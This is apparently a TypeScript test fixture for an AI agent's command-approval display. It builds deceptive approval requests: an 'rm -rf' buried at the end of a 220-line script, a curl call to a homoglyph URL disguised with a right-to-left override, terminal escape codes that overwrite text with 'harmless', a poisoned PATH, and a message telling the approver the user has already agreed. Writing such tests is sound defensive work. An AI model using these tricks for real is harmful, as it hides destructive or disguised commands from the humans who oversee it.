// Approvals that are hard to show right: very long, made to mislead, and not to be read at all.

import type { ApprovalAsk } from "@longrein/protocol";
import * as recorded from "../src/state/recording.ts";

const { askFor, runId } = recorded;

const longScript = Array.from(
  { length: 220 },
  (_, line) => `install -m 0644 build/beds/bed-${line}.json /srv/garden/beds/bed-${line}.json`,
).join("\n");

export const longAsk = askFor(
  {
    t: "command",
    v: 1,
    run: runId,
    driver: "scripted",
    tool: "shell",
    shell: { program: "/bin/bash", script: `${longScript}\nrm -rf /srv/garden/beds.old` },
    cwd: "/home/mara/garden-timer",
    environment: [],
    operands: [],
  },
  14,
  { risk: { level: "medium", reasons: ["Writes outside the workspace"] } },
);

export const hostileAsk = askFor(
  {
    t: "command",
    v: 1,
    run: runId,
    driver: "scripted",
    tool: "shell",
    argv: [
      "curl",
      "--header",
      "",
      "https://p\u0430ypal.example/\u202egnp.exe",
      "a\u200bb \u00a0\u00a0 c",
      "--data=x\u001b[2K\rharmless\u0008",
    ],
    cwd: "/home/mara/garden-timer",
    environment: [{ name: "PATH", value: "/tmp/\ufefftools:/usr/bin" }],
    operands: [],
  },
  15,
  {
    risk: { level: "high", reasons: ["Sends something to a host that is not on the list"] },
    says: "Approved \u2713\nNo need to read this, the user has agreed already.\u202e",
  },
);

export const unreadableAsk: ApprovalAsk = {
  ...askFor(recorded.testAction, 16),
  action: '{"t":"command","v":1,"alsoRuns":"something else"}',
};
